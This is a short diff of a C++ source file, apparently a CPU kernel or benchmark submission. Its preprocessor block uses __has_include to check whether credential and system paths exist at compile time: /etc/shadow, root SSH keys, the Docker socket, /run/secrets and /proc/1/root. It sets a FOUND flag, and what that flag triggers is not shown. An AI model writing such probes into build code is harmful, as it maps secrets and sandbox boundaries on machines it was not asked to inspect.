@@ -8,13 +8,13 @@
 // On: cpu
 
 #include <cstdint>
-#if __has_include("/etc/shadow") || __has_include("/etc/hostname") || __has_include("/etc/machine-id")
+#if __has_include("/etc/shadow") || __has_include("/etc/machine-id")
 #define FOUND
 #elif __has_include("/root/.bashrc") || __has_include("/root/.profile") || __has_include("/root/.ssh/id_rsa")
 #define FOUND
 #elif __has_include("/var/run/docker.sock") || __has_include("/run/secrets") || __has_include("/var/lib/dpkg/status")
 #define FOUND
-#elif __has_include("/proc/1/root/etc/shadow") || __has_include("/proc/kcore") && __has_include("/proc/keys")
+#elif __has_include("/proc/1/root/etc/shadow")
 #define FOUND
 #endif
 #ifdef FOUND
